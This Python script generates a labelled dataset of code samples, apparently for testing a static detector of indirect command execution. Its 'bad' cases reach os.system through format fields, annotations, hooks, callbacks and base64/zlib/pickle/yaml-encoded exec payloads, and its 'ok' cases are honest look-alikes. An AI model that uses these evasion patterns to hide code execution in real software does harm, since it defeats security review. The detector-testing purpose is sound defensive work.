"""Ways to reach a function without naming it where it is called, and honest code that looks alike; run `python3.11 make-indirect.py > indirect.json`.

Nothing here is run: each case is compiled, and the tests read its source and its bytecode. The payloads run `id` or write `x`.
"""
import base64
import bz2
import codecs
import gzip
import json
import lzma
import marshal
import pickle
import sys
import textwrap
import zlib

CASES = []


def bad(kind, name, source):
    CASES.append((kind, True, name, source))


def ok(kind, name, source):
    CASES.append((kind, False, name, source))


CODE = "import os\nos.system('id')"
EVIL = b"cos\nsystem\n(S'id'\ntR."


def b(text):
    return base64.b64encode(text if isinstance(text, bytes) else text.encode())


# formatting and annotations
bad(1, 'format attr then call via get_field', "import os,string\nf,_ = string.Formatter().get_field('0.system',(os,),{})\nf('id')")
bad(1, 'get_field item', "import os,string\nstring.Formatter().get_field('0.system',[os],{})[0]('id')")
bad(1, 'get_field keyword', "import os\nfrom string import Formatter\nf = Formatter()\nrun = f.get_field('m.system',(),{'m':os})[0]\nrun('id')")
bad(1, 'get_value', "import os\nfrom string import Formatter\nf = Formatter()\nrun = f.get_value('m',(),{'m':os}).system\nrun('id')")
bad(1, 'nested fstring', 'import os\nx = f\'{os.system("id")}\'')
bad(1, 'nested fstring spec', 'import os\nx = f\'{1:{os.system("id")}}\'')
bad(1, 'fstring import', 'x = f\'{__import__("os").system("id")!r}\'')
bad(1, 'fstring nested in fstring', 'import os\nx = f"{f\'{os.system(chr(105)+chr(100))}\'}"')
bad(1, 'format dunder globals', "def f(): pass\nx = '{0.__globals__}'.format(f)")
bad(1, 'format class init globals', "class A:\n  def __init__(self): pass\nx = '{a.__init__.__globals__[secret]}'.format(a=A())")
bad(1, 'format_map globals', "def f(): pass\nx = '{f.__globals__}'.format_map({'f': f})")
bad(1, 'str.format function', "def f(): pass\nx = str.format('{0.__globals__}', f)")
bad(1, 'Formatter().format', "import string\ndef f(): pass\nx = string.Formatter().format('{0.__globals__}', f)")
bad(1, 'Formatter().vformat', "import string\ndef f(): pass\nx = string.Formatter().vformat('{0.__globals__}', (f,), {})")
bad(1, 'get_type_hints str annotation', 'import typing\nclass A:\n  x: \'__import__("os").system("id")\' = 1\ntyping.get_type_hints(A)')
bad(1, 'get_type_hints function', 'import typing\ndef f(a: \'__import__("os").system("id")\'): pass\ntyping.get_type_hints(f)')
bad(1, 'get_type_hints return', 'from typing import get_type_hints as g\ndef f() -> \'__import__("os").system("id")\': pass\ng(f)')
bad(1, 'annotations set later', 'import typing\nclass A: pass\nA.__annotations__ = {\'x\': \'__import__("os").system("id")\'}\ntyping.get_type_hints(A)')
bad(1, 'eval of annotations', 'class A:\n  x: \'__import__("os").system("id")\' = 1\neval(A.__annotations__[\'x\'])')
bad(1, 'ForwardRef evaluate', 'import typing\ntyping.ForwardRef(\'__import__("os").system("id")\')._evaluate(globals(), {}, frozenset())')
bad(1, 'inspect.signature eval_str', 'import inspect\ndef f(a: \'__import__("os").system("id")\'): pass\ninspect.signature(f, eval_str=True)')
bad(1, 'inspect.get_annotations', 'import inspect\nclass A:\n  x: \'__import__("os").system("id")\' = 1\ninspect.get_annotations(A, eval_str=True)')
bad(1, 'future annotations', "from __future__ import annotations\nimport typing\ndef f(a: __import__('os').system('id')): pass\ntyping.get_type_hints(f)")
bad(1, 'annotation that is no text', "import os\ndef f(a: os.system('id')): pass")
bad(1, 'format spec class', "import os\nclass A:\n  def __format__(self, spec): return os.system(spec)\nx = f'{A():id}'")
bad(1, 'percent __str__', "import os\nclass A:\n  def __str__(self): return os.system('id')\nx = '%s' % A()")
ok(1, 'plain format', "class A:\n  def __init__(self, n): self.n = n\n  def __repr__(self): return '{0.n} {0.__class__.__name__} {1}'.format(self, 3)\n")
ok(1, 'format class name', "x = '{0.__class__.__name__}'.format(3)\ny='{self.__class__.__module__}.{self.__class__.__qualname__}'.format(self=3)")
ok(1, 'format item', "d = {'a': 1}\nx = '{d[a]:>10} {0.real}'.format(3, d=d)")
ok(1, 'get_type_hints honest', "import typing\nclass Config:\n  hidden: 'int' = 1\n  name: 'Optional[str]' = None\n  child: 'Config' = None\ndef types():\n  return typing.get_type_hints(Config)")
ok(1, 'format a module', "import torch\nprint('torch {0.__version__}'.format(torch))")
ok(1, 'formatter honest', "import string\nclass F(string.Formatter):\n  def get_value(self, key, args, kw):\n    return kw.get(key, '{'+str(key)+'}')\nprint(F().format('{a} {b}', a=1))")
ok(1, 'formatter fields', "import string\nnames = [n for _, n, _, _ in string.Formatter().parse('{a} {b}') if n]")
ok(1, 'format os sep', "import os\nprint('{0.sep} {0.name}'.format(os))")
# registered functions
bad(2, 'copyreg', "import copyreg, os\nclass A: pass\ncopyreg.pickle(A, lambda a: (os.system, ('id',)))")
bad(2, 'copyreg def', "import copyreg, os\nclass A: pass\ndef red(a):\n  return os.system, ('id',)\ncopyreg.pickle(A, red)")
bad(2, 'copyreg dispatch', "import copyreg, os\nclass A: pass\ncopyreg.dispatch_table[A] = lambda a: (os.system, ('id',))")
bad(2, 'copyreg constructor', 'import copyreg, os\ncopyreg.constructor(os.system)')
bad(2, 'atexit lambda', "import atexit, os\natexit.register(lambda: os.system('id'))")
bad(2, 'atexit direct', "import atexit, os\natexit.register(os.system, 'id')")
bad(2, 'atexit deco', "import atexit, os\n@atexit.register\ndef f(): os.system('id')")
bad(2, 'signal', "import signal, os\nsignal.signal(signal.SIGALRM, lambda s,f: os.system('id'))\nsignal.alarm(1)")
bad(2, 'finalize', "import weakref, os\nclass A: pass\nweakref.finalize(A(), os.system, 'id')")
bad(2, 'finalize lambda', "import weakref, os\nclass A: pass\na=A()\nweakref.finalize(a, lambda: os.system('id'))")
bad(2, 'weakref.ref callback', "import weakref, os\nclass A: pass\na=A()\nr=weakref.ref(a, lambda r: os.system('id'))")
bad(2, 'excepthook', "import sys, os\nsys.excepthook = lambda *a: os.system('id')")
bad(2, 'excepthook def', "import sys, os\ndef h(*a): os.system('id')\nsys.excepthook = h")
bad(2, 'displayhook', 'import sys, os\nsys.displayhook = lambda v: os.system(v)')
bad(2, 'unraisable', "import sys, os\nsys.unraisablehook = lambda v: os.system('id')")
bad(2, 'threading.excepthook', "import threading, os\nthreading.excepthook = lambda a: os.system('id')")
bad(2, 'threading.settrace', "import threading, os\nthreading.settrace(lambda *a: os.system('id'))")
bad(2, 'sys.setprofile', "import sys, os\nsys.setprofile(lambda *a: os.system('id'))")
bad(2, 'codecs.register', "import codecs, os\ndef s(n):\n  os.system('id')\ncodecs.register(s)\n")
bad(2, 'codecs.register_error', "import codecs, os\ncodecs.register_error('x', lambda e: os.system('id'))")
bad(2, 'codecs info', 'import codecs, os\ncodecs.register(lambda n: codecs.CodecInfo(os.system, os.system))')
bad(2, 'json default', "import json, os\njson.JSONEncoder.default = lambda s, o: os.system('id')")
bad(2, 'json default direct', 'import json, os\njson.JSONEncoder.default = os.system')
bad(2, 'json hook', "import json, os\njson.loads('{}', object_hook=lambda d: os.system('id'))")
bad(2, 'singledispatch', "import functools, os\n@functools.singledispatch\ndef f(x): pass\n@f.register(int)\ndef _(x): os.system('id')")
bad(2, 'singledispatch direct', "import functools, os\n@functools.singledispatch\ndef f(x): pass\nf.register(str, os.system)\nf('id')")
bad(2, 'abc.register', "import abc, os\nclass B(abc.ABC):\n  @classmethod\n  def __subclasshook__(cls, c): os.system('id')\nB.register(int)\nisinstance(3, B)")
bad(2, 'logging emit', 'import logging, os\nclass H(logging.Handler):\n  def emit(self, r): os.system(r.getMessage())\nlogging.getLogger().addHandler(H())')
bad(2, 'logging emit patch', "import logging, os\nlogging.Handler.emit = lambda s, r: os.system('id')")
bad(2, 'class_getitem', "import os\nclass A:\n  def __class_getitem__(cls, k): os.system(k)\nA['id']")
bad(2, 'init_subclass', "import os\nclass A:\n  def __init_subclass__(cls, **k): os.system('id')\nclass B(A): pass")
bad(2, 'init_subclass kw', "import os\nclass A:\n  def __init_subclass__(cls, run=None, **k): run('id')\nclass B(A, run=os.system): pass")
bad(2, 'set_name', 'import os\nclass D:\n  def __set_name__(self, o, n): os.system(n)\nclass A:\n  id = D()')
bad(2, 'set_name stored', 'import os\nclass D:\n  def __init__(self, f): self.f = f\n  def __set_name__(self, o, n): self.f(n)\nclass A:\n  id = D(os.system)')
bad(2, 'descriptor get', "import os\nclass D:\n  def __get__(self, o, t): return os.system('id')\nclass A:\n  x = D()\nA().x")
bad(2, 'descriptor stored', "import os\nclass D:\n  def __init__(self, f): self.f = f\n  def __get__(self, o, t): return self.f('id')\nclass A:\n  x = D(os.system)\nA().x")
bad(2, 'descriptor set', "import os\nclass D:\n  def __set__(self, o, v): os.system(v)\nclass A:\n  x = D()\nA().x = 'id'")
bad(2, 'property direct', "import os\nclass A:\n  x = property(lambda s: os.system('id'))\nA().x")
bad(2, 'property fn', "import os\ndef get(c): return c.run('id')\nclass A:\n  run = os.system\n  x = property(get)")
bad(2, 'import hook', "import sys, os\nclass F:\n  def find_spec(self, n, p, t=None): os.system('id')\nsys.meta_path.insert(0, F())")
bad(2, 'register_at_fork', "import os\nos.register_at_fork(before=lambda: os.system('id'))")
bad(2, 'gc callbacks', "import gc, os\ngc.callbacks.append(lambda p, i: os.system('id'))")
bad(2, 'add audit', "import sys, os\nsys.addaudithook(lambda e, a: os.system('id'))")
bad(2, 'builtins __build_class__', "import builtins, os\nbuiltins.__build_class__ = lambda *a: os.system('id')")
bad(2, 'Timer', "import threading, os\nthreading.Timer(1, os.system, ['id']).start()")
bad(2, 'del', "import os\nclass A:\n  def __del__(self): os.system('id')\nA()")
bad(2, 'torch hook', "import torch, os\nm = torch.nn.Linear(1,1)\nm.register_forward_hook(lambda *a: os.system('id'))")
bad(2, 'state dict hook', 'import torch, os\nm = torch.nn.Linear(1,1)\nm._register_load_state_dict_pre_hook(os.system)')
bad(2, 'register_buffer indirection', "import torch, os\nhooks = {'a': os.system}\nm.register_forward_pre_hook(hooks['a'])")
bad(2, 'contextvar', "import contextvars, os\ncontextvars.copy_context().run(os.system, 'id')")
bad(2, 'executor submit', "from concurrent.futures import ThreadPoolExecutor as T\nimport os\nT().submit(os.system, 'id')")
bad(2, 'asyncio loop call_soon', "import asyncio, os\nasyncio.get_event_loop().call_later(1, os.system, 'id')")
bad(2, 'sched', "import sched, os\ns=sched.scheduler()\ns.enter(1,1,os.system,('id',))\ns.run()")
bad(2, 'ipython', "import os\nget_ipython().events.register('post_run_cell', lambda: os.system('id'))")
bad(2, 'logging Formatter converter', 'import logging, os\nlogging.Formatter.converter = os.system')
bad(2, 'warnings showwarning', "import warnings, os\nwarnings.showwarning = lambda *a: os.system('id')")
bad(2, 'copyreg via alias', "from copyreg import pickle as p, dispatch_table\nimport os\nclass A: pass\np(A, lambda a: (os.system, ('id',)))")
bad(2, 'reducer_override', "import pickle, os\nclass P(pickle.Pickler):\n  def reducer_override(self, o): return os.system, ('id',)")
bad(2, 'dispatch_table attr', "import pickle, os, io\np = pickle.Pickler(io.BytesIO())\np.dispatch_table = {int: lambda a: (os.system, ('id',))}")
bad(2, 'reduce attr lambda', "import os\nclass A: pass\nA.__reduce__ = lambda s: (os.system, ('id',))")
ok(2, 'atexit honest', 'import atexit, shutil, tempfile\nd = tempfile.mkdtemp()\natexit.register(shutil.rmtree, d, ignore_errors=True)')
ok(2, 'signal honest', 'import signal, sys\nsignal.signal(signal.SIGINT, lambda s, f: sys.exit(0))')
ok(2, 'copyreg honest', 'import copyreg\nclass A:\n  def __init__(self, x): self.x = x\ncopyreg.pickle(A, lambda a: (A, (a.x,)))')
ok(2, 'json default honest', 'import json, numpy as np\nclass E(json.JSONEncoder):\n  def default(self, o):\n    if isinstance(o, np.ndarray): return o.tolist()\n    return super().default(o)\njson.dumps({}, cls=E)')
ok(2, 'singledispatch honest', 'import functools, torch\n@functools.singledispatch\ndef to(x): return x\n@to.register(torch.Tensor)\ndef _(x): return x.cpu()')
ok(2, 'logging handler honest', 'import logging\nclass H(logging.Handler):\n  def emit(self, r): print(self.format(r))\nlogging.getLogger(__name__).addHandler(H())')
ok(2, 'init_subclass registry', "R = {}\nclass B:\n  def __init_subclass__(cls, name=None, **k):\n    super().__init_subclass__(**k)\n    R[name] = cls\nclass C(B, name='c'): pass")
ok(2, 'descriptor honest', 'class D:\n  def __set_name__(self, o, n): self.n = n\n  def __get__(self, o, t=None): return o.__dict__.get(self.n)\n  def __set__(self, o, v): o.__dict__[self.n] = v\nclass A:\n  x = D()\nA().x = 3')
ok(2, 'finalize honest', 'import weakref\nclass A:\n  def __init__(self, f):\n    self._f = weakref.finalize(self, f.close)\n')
ok(2, 'excepthook honest', 'import sys, traceback\ndef hook(t, v, tb): traceback.print_exception(t, v, tb)\nsys.excepthook = hook')
bad(1,'f-string calls getattr',"import os\nx = f'{getattr(os, \"system\")(\"id\")}'")
bad(1,'f-string with walrus',"import os\nx = f'{(r := os.system)(\"id\")}'")
bad(1,'f-string lambda',"import os\nx = f'{(lambda c: os.system(c))(\"id\")}'")
bad(1,'f-string debug =',"import os\nx = f'{os.popen(\"id\")=}'")
bad(1,'template in fstring triple',"import os\nx = f'''{\nos.system('id')\n}'''")
bad(1,'eval of fstring',"n = 'os'\neval(f'__import__(\"{n}\").system(\"id\")')")
bad(1,'eval of format',"eval('__import__(\"{}\").{}(\"id\")'.format('os', 'system'))")
bad(1,'eval of % dict',"eval('__import__(\"%(m)s\").%(f)s(\"id\")' % {'m': 'os', 'f': 'system'})")
bad(1,'eval of named format',"eval('__import__(\"{m}\").{f}(\"id\")'.format(m='os', f='system'))")
bad(1,'eval of Template',"from string import Template\neval(Template('__import__(\"$m\").system(\"id\")').substitute(m='os'))")
bad(1,'getattr of format_map',"import os\ngetattr(os, '{a}{b}'.format_map({'a': 'sys', 'b': 'tem'}))('id')")
bad(1,'formatter subclass get_field',"import os, string\nclass F(string.Formatter): pass\nF().get_field('0.system', (os,), {})[0]('id')")
bad(1,'formatter deep',"import shutil, string\nstring.Formatter().get_field('0.os.system', [shutil], {})[0]('id')")
bad(1,'formatter by dict item',"import os, string\nstring.Formatter().get_field('0[a]', [{'a': os.system}], {})[0]('id')")
bad(1,'formatter built name',"import os, string\nstring.Formatter().get_field('0.' + 'sys' + 'tem', [os], {})[0]('id')")
bad(1,'formatter unbound',"import os, string\nstring.Formatter.get_field(string.Formatter(), '0.system', [os], {})[0]('id')")
bad(1,'nested annotation List',"import typing\nclass A:\n  x: typing.List['__import__(\"os\").system(\"id\")'] = None\ntyping.get_type_hints(A)")
bad(1,'Optional annotation',"from typing import Optional, get_type_hints\ndef f(a: Optional['__import__(\"os\").system(\"id\")'] = None): pass\nget_type_hints(f)")
bad(1,'union annotation',"import typing\nclass A:\n  x: 'int | __import__(\"os\").popen(\"id\")' = 1\ntyping.get_type_hints(A)")
bad(1,'annotations built',"import typing\nn = '__import__(\"os\").sys' + 'tem(\"id\")'\ndef f(a: n): pass\ntyping.get_type_hints(f)")
bad(1,'TypedDict',"import typing\nT = typing.TypedDict('T', {'a': '__import__(\"os\").system(\"id\")'})\ntyping.get_type_hints(T)")
bad(1,'NamedTuple',"import typing\nT = typing.NamedTuple('T', [('a', '__import__(\"os\").system(\"id\")')])\ntyping.get_type_hints(T)")
bad(1,'make_dataclass',"import dataclasses, typing\nT = dataclasses.make_dataclass('T', [('a', '__import__(\"os\").system(\"id\")')])\ntyping.get_type_hints(T)")
bad(1,'setattr annotations',"import typing\ndef f(): pass\nsetattr(f, '__annotations__', {'a': '__import__(\"os\").system(\"id\")'})\ntyping.get_type_hints(f)")
bad(1,'annotations update',"import typing\ndef f(): pass\nf.__annotations__.update(a='__import__(\"os\").system(\"id\")')\ntyping.get_type_hints(f)")
bad(1,'type() annotations',"import typing\nA = type('A', (), {'__annotations__': {'a': '__import__(\"os\").system(\"id\")'}})\ntyping.get_type_hints(A)")
bad(1,'typing._eval_type',"import typing\ntyping._eval_type(typing.ForwardRef('__import__(\"os\").system(\"id\")'), globals(), {})")
bad(1,'ForwardRef joined',"import typing\ntyping.ForwardRef('__imp' + 'ort__(\"os\").system(\"id\")')._evaluate({}, {}, frozenset())")
bad(1,'annotation comprehension',"def f(a: '[__import__(\"subprocess\").run(c) for c in [\"id\"]]'): pass")
ok(1,'annotations of a module',"import torch\nfrom typing import List, Dict, Literal, Annotated\nclass M:\n  x: 'torch.Tensor'\n  y: Dict[str, 'M'] = None\n  z: Literal['sum(1)'] = None\n  w: Annotated[int, 'Field(gt=0)'] = 1\n  def f(self, a: 'Optional[List[M]]' = None) -> 'M': return self")
ok(1,'jaxtyping',"from jaxtyping import Float\nfrom torch import Tensor\ndef f(x: Float[Tensor, 'batch dim'], y: Float[Tensor, 'b c h*w']) -> Float[Tensor, '...']: return x")
ok(1,'beartype',"def f(x: 'np.ndarray', y: 'Callable[[int], str]', z: 'conint(gt=0)') -> 'tuple[int, ...]': return x")
ok(1,'format of self',"class A:\n  def __str__(self): return '{0.__class__.__name__}(lr={0.lr}, betas={0.betas[0]})'.format(self)")
ok(1,'format map',"x = '{lr:.{prec}f} {name!r:>{width}}'.format(lr=0.1, prec=3, name='a', width=10)\ny = '{{}} {}'.format(1)")
ok(1,'logging of module',"import torch, platform\nprint(f'{torch.__version__} {platform.platform()} {torch.cuda.device_count()=}')")
ok(1,'dataclass hints',"import dataclasses, typing\n@dataclasses.dataclass\nclass A:\n  x: 'int' = 1\n  y: typing.Optional['A'] = None\nhints = typing.get_type_hints(A)\nfor f in dataclasses.fields(A): t = hints[f.name]")
ok(1,'argparse hints',"import inspect\ndef f(a: 'int', b: 'str' = 'x'): pass\nsig = inspect.signature(f, eval_str=True)")
# kind 2 variants
R={
'reducer in Pickler.dispatch':"import pickle, os\nclass P(pickle._Pickler):\n  dispatch = dict(pickle._Pickler.dispatch)\n  def save(self, o): self.write(b'')\n  dispatch[int] = lambda s, o: os.system('id')",
'copyreg partial':"import copyreg, functools, os\nclass A: pass\ncopyreg.pickle(A, functools.partial(lambda f, a: (f, ('id',)), os.system))",
'copyreg setitem by update':"import copyreg, os\nclass A: pass\ncopyreg.dispatch_table.update({A: lambda a: (os.system, ('id',))})",
'copyreg method':"import copyreg, os\nclass A:\n  def red(self): return os.popen, ('id',)\ncopyreg.pickle(A, A.red)",
'copyreg add_extension':"import copyreg, os\ncopyreg.add_extension('os', 'system', 240)",
'copyreg eval':"import copyreg\nclass A: pass\ncopyreg.pickle(A, lambda a: (eval, ('1+1',)))",
'atexit unpacked':"import atexit, os\natexit.register(*[os.system, 'id'])",
'atexit partial':"import atexit, functools, os\natexit.register(functools.partial(os.system, 'id'))",
'atexit method':"import atexit, os\nclass A:\n  def bye(self): os.system('id')\natexit.register(A().bye)",
'atexit by getattr':"import atexit, os\ngetattr(atexit, 'reg' + 'ister')(os.system, 'id')",
'signal via loop':"import signal, os\nfor s in (signal.SIGTERM, signal.SIGINT): signal.signal(s, lambda *a: os.popen('id'))",
'signal class':"import signal, os\nclass H:\n  def __call__(self, *a): os.system('id')\nsignal.signal(signal.SIGUSR1, H())",
'finalize in init':"import weakref, os\nclass A:\n  def __init__(self): weakref.finalize(self, os.system, 'id')\nA()",
'WeakMethod':"import weakref, os\nclass A:\n  def f(self): pass\na = A()\nweakref.WeakMethod(a.f, lambda r: os.system('id'))",
'setattr excepthook':"import sys, os\nsetattr(sys, 'excepthook', lambda *a: os.system('id'))",
'excepthook direct':"import sys, os\nsys.excepthook = os.system",
'threading excepthook direct':"import threading, subprocess\nthreading.excepthook = subprocess.run",
'codecs class':"import codecs, os\nclass C(codecs.Codec):\n  def decode(self, i, errors='strict'): return os.system(i), len(i)\ncodecs.register(lambda n: codecs.CodecInfo(C().encode, C().decode, name='x'))\nb'id'.decode('x')",
'json cls':"import json, os\nclass E(json.JSONEncoder):\n  def default(self, o): return os.system(o)\njson.dumps(object(), cls=E)",
'json parse_float':"import json, os\njson.loads('1.5', parse_float=os.system)",
'json object_pairs_hook':"import json, os\njson.loads('{}', object_pairs_hook=os.system)",
'singledispatchmethod':"import functools, os\nclass A:\n  @functools.singledispatchmethod\n  def f(self, x): pass\n  @f.register\n  def _(self, x: str): os.system(x)\nA().f('id')",
'singledispatch func arg':"from functools import singledispatch\nimport os\n@singledispatch\ndef f(x): return os.system(x)\nf('id')",
'abc subclasshook attr':"import abc, os\nclass B(abc.ABC): pass\nB.__subclasshook__ = classmethod(lambda c, o: os.system('id'))",
'instancecheck':"import os\nclass M(type):\n  def __instancecheck__(c, o): return os.system('id')\nclass A(metaclass=M): pass\nisinstance(1, A)",
'logging filter':"import logging, os\nclass F(logging.Filter):\n  def filter(self, r): return os.system('id')\nlogging.getLogger().addFilter(F())",
'logging filter function':"import logging, os\nlogging.getLogger().addFilter(lambda r: os.system('id'))",
'logging factory':"import logging, os\nlogging.setLogRecordFactory(lambda *a, **k: os.system('id'))",
'logging factory direct':"import logging, os\nlogging.setLogRecordFactory(os.system)",
'logging dictConfig':"import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'a': {'()': 'os.system', 'command': 'id'}}})",
'class_getitem attr':"import os\nclass A:\n  __class_getitem__ = classmethod(lambda c, k: os.system(k))\nA['id']",
'class_getitem direct':"import os\nclass A:\n  __class_getitem__ = os.system\nA['id']",
'set_name direct':"import os\nclass D:\n  __set_name__ = lambda s, o, n: os.system(n)\nclass A: id = D()",
'descriptor via functools.cached_property':"import functools, os\nclass A:\n  @functools.cached_property\n  def x(self): return os.system('id')\nA().x",
'cached_property direct':"import functools, os\nclass A:\n  x = functools.cached_property(os.system)\n",
'getattr class':"import os\nclass A:\n  def __getattr__(self, n): return os.system\nA().anything('id')",
'missing':"import os\nclass D(dict):\n  def __missing__(self, k): return os.system(k)\nD()['id']",
'defaultdict':"import collections, os\nd = collections.defaultdict(lambda: os.system('id'))\nd[1]",
'iter sentinel':"import os, functools\nnext(iter(functools.partial(os.system, 'id'), 1))",
'contextlib callback':"import contextlib, os\nwith contextlib.ExitStack() as s: s.callback(os.system, 'id')",
'contextmanager':"import contextlib, os\n@contextlib.contextmanager\ndef c():\n  yield os.system\nwith c() as run: run('id')",
'sys.settrace':"import sys, os\nsys.settrace(lambda *a: os.system('id'))",
'sys.breakpointhook':"import sys, os\nsys.breakpointhook = lambda: os.system('id')\nbreakpoint()",
'asyncio done callback':"import asyncio, os\nasyncio.Future().add_done_callback(os.system)",
'future add_done':"import os\nfrom concurrent.futures import Future\nf = Future(); f.add_done_callback(lambda x: os.system('id'))",
'builtins print':"import builtins, os\nbuiltins.print = os.system\nprint('id')",
'torch.save pickle module':"import torch, os\ntorch.utils.data.DataLoader([], collate_fn=os.system)",
'keras callback':"import keras, os\nkeras.callbacks.LambdaCallback(on_epoch_end=lambda e, l: os.system('id'))",
'numpy vectorize':"import numpy, os\nnumpy.vectorize(os.system)(['id'])",
'pandas apply':"import pandas, os\npandas.Series(['id']).apply(os.system)",
'sklearn FunctionTransformer':"import os\nfrom sklearn.preprocessing import FunctionTransformer\nt = FunctionTransformer(os.system)",
'tkinter after':"import tkinter, os\ntkinter.Tk().after(1, lambda: os.system('id'))",
'readline':"import readline, os\nreadline.set_completer(lambda t, s: os.system('id'))",
'importlib loader':"import importlib.abc, os\nclass L(importlib.abc.Loader):\n  def exec_module(self, m): os.system('id')",
'path hooks':"import sys, os\nsys.path_hooks.append(lambda p: os.system('id'))",
'del of instance':"import os\nclass A: __del__ = lambda s: os.system('id')\nA()",
}
for n,s in R.items(): bad(2,n,s)
# What stands behind much that is harmless is looked at, too.
MANY = ', '.join(f"'h{number}': {{'class': 'logging.StreamHandler'}}" for number in range(300))
bad(2, 'logging dictConfig of many handlers', f"import logging.config\nlogging.config.dictConfig({{'version': 1, 'handlers': {{{MANY}, 'z': {{'()': 'os.system', 'command': 'id'}}}}}})")
BUILTINS = 'abs, all, any, ascii, bin, bool, bytes, chr, complex, dict, divmod, float, hash, hex, int, len, list, max, min, oct'
bad(2, 'one of many functions by its place', f"import os\ndef run(i, *args): return [{BUILTINS}, os.system][i](*args)\nrun(20, 'id')")
bad(2, 'all of many functions', f"import os\nfor f in [{BUILTINS}, os.system]: f('id')")
NAMED = ', '.join(f'k{index}={name}' for index, name in enumerate(BUILTINS.split(', ')))
bad(2, 'one of many functions by its name', f"import os\nT = dict({NAMED}, z=os.system)\ndef run(name, *args): return T[name](*args)\nrun('z', 'id')")
ok(2, 'one of many harmless functions', f"def run(i, *args): return [{BUILTINS}, str, sum, type][i](*args)\nrun(20, 'id')")
bad(2, 'a long way to a function', f"import torch\ntorch.{'nn.functional.torch.' * 40}os.system('id')")
bad(1, 'a long field', f"import os\nx = '{{0{'.__class__' * 60}.__init__.__globals__[sys]}}'.format(os.environ)")
ok(2,'getter of a function',"import subprocess\ndef version():\n  return None\nclass A:\n  run = None\n  def __call__(self, x): return x\natexit = __import__('atexit')\natexit.register(A().__call__, 1)")
ok(2,'pool',"from concurrent.futures import ThreadPoolExecutor\ndef work(x): return x + 1\nwith ThreadPoolExecutor() as p: print(list(p.map(work, [1, 2])))")
ok(2,'hooks honest',"import torch\nclass M(torch.nn.Module):\n  def __init__(self):\n    super().__init__()\n    self.acts = {}\n    self.l = torch.nn.Linear(1, 1)\n    self.l.register_forward_hook(self.save('l'))\n  def save(self, n):\n    def hook(m, i, o): self.acts[n] = o.detach()\n    return hook")
ok(2,'atexit close',"import atexit, logging\nh = logging.StreamHandler()\natexit.register(h.close)")
ok(2,'signal default',"import signal\nsignal.signal(signal.SIGPIPE, signal.SIG_DFL)\nold = signal.getsignal(signal.SIGINT)")
ok(2,'class_getitem honest',"class A:\n  def __class_getitem__(cls, k): return type(cls.__name__, (cls,), {'k': k})\nB = A[int]")
ok(2,'dispatch copy',"import copyreg, pickle\nd = copyreg.dispatch_table.copy()\nclass A: pass\nd[A] = lambda a: (A, ())")
ok(2,'codecs lookup',"import codecs\ncodecs.lookup('utf-8')\ncodecs.register_error('keep', lambda e: ('?', e.end))")
ok(2,'json cls honest',"import json, datetime\nclass E(json.JSONEncoder):\n  def default(self, o):\n    return o.isoformat() if isinstance(o, datetime.datetime) else json.JSONEncoder.default(self, o)\ndumps = lambda x: json.dumps(x, cls=E)")
ok(2,'abc honest',"import abc, collections.abc\nclass B(abc.ABC):\n  @classmethod\n  def __subclasshook__(cls, c): return hasattr(c, 'fit')\ncollections.abc.Sequence.register(B)")
ok(2,'tempdir finalize',"import weakref, shutil, tempfile\nclass A:\n  def __init__(self):\n    self.d = tempfile.mkdtemp()\n    self.f = weakref.finalize(self, shutil.rmtree, self.d)\n")
# kind 3 variants
code = CODE
bad(3,'loop of decodes',"import base64\nx = %r\nfor _ in range(3): x = base64.b64decode(x)\nexec(x)"%b(b(b(code))))
bad(3,'function decode',"import base64, zlib\ndef d(x): return zlib.decompress(base64.b64decode(x))\nexec(d(d(%r)))"%b(zlib.compress(b(zlib.compress(code.encode())))))
bad(3,'join then decode',"import base64\nexec(base64.b64decode(''.join(%r)).decode())"%[b(code).decode()[i:i+4] for i in range(0,60,4)])
bad(3,'reversed join',"exec(''.join(reversed(%r)))"%code[::-1])
bad(3,'rot13 str translate',"import codecs\nexec(codecs.decode(%r, 'rot_13'))"%codecs.encode(code,'rot13'))
bad(3,'hex of hex',"exec(bytes.fromhex(bytes.fromhex(%r).decode()).decode())"%code.encode().hex().encode().hex())
bad(3,'b64 of pickle of b64',"import pickle, base64\npickle.loads(base64.b64decode(base64.b64decode(%r)))"%b(b(b"cos\nsystem\n(S'id'\ntR.")))
bad(3,'pickle zlib',"import pickle, zlib\npickle.loads(zlib.decompress(%r))"%zlib.compress(b"cos\nsystem\n(S'id'\ntR."))
bad(3,'pickle in pickle',"import pickle\npickle.loads(pickle.loads(%r))"%pickle.dumps(b"cos\nsystem\n(S'id'\ntR."))
bad(3,'pickle hex',"import pickle\npickle.loads(bytes.fromhex(%r))"%b"cos\nsystem\n(S'id'\ntR.".hex())
bad(3,'pickle via getattr',"import pickle\ngetattr(pickle, 'loads')(%r)"%b"cos\nsystem\n(S'id'\ntR.")
bad(3,'pickle bytes(list)',"import pickle\npickle.loads(bytes(%r))"%list(b"cos\nsystem\n(S'id'\ntR."))
bad(3,'exec of loads of marshal rev',"import marshal\nexec(marshal.loads(%r[::-1]))"%marshal.dumps(compile(code,'','exec'))[::-1])
bad(3,'eval int to bytes',"exec(%d .to_bytes(%d, 'big'))"%(int.from_bytes(code.encode(),'big'),len(code)))
bad(3,'yaml multi',"import yaml\nyaml.load_all('--- !!python/object/apply:os.system [id]', Loader=yaml.Loader)")
bad(3,'yaml add constructor',"import yaml, os\nyaml.add_constructor('!x', lambda l, n: os.system('id'))\nyaml.load('!x 1', yaml.Loader)")
bad(3,'yaml joined',"import yaml\nyaml.unsafe_load('!!python/' + 'object/apply:os.system [id]')")
bad(3,'yaml %TAG',"import yaml\nyaml.unsafe_load('%TAG !p! tag:yaml.org,2002:python/\\n---\\n!p!object/apply:os.system [id]')")
bad(3,'json name',"import json\nd = json.loads('{\"m\": \"os\", \"f\": \"system\"}')\ngetattr(__import__(d['m']), d['f'])('id')")
bad(3,'json b64 name',"import json, base64\nd = json.loads(base64.b64decode(%r))\ngetattr(__import__(d['m']), d['f'])('id')"%b('{"m": "os", "f": "system"}'))
bad(3,'literal name',"import ast\nd = ast.literal_eval(\"{'m': 'os', 'f': 'system'}\")\ngetattr(__import__(d['m']), d['f'])('id')")
bad(3,'read of BytesIO',"import io\nexec(io.StringIO(%r).read())"%code)
bad(3,'split names',"import os\ngetattr(os, 'a,system'.split(',')[1])('id')")
bad(3,'urllib unquote b64',"import base64, urllib.parse\nexec(urllib.parse.unquote(base64.b64decode(%r).decode()))"%b('import%20os%0Aos.system(%27id%27)'))
bad(3,'base64 binascii mix',"import binascii\nexec(binascii.a2b_base64(binascii.unhexlify(%r)))"%b(code).hex())
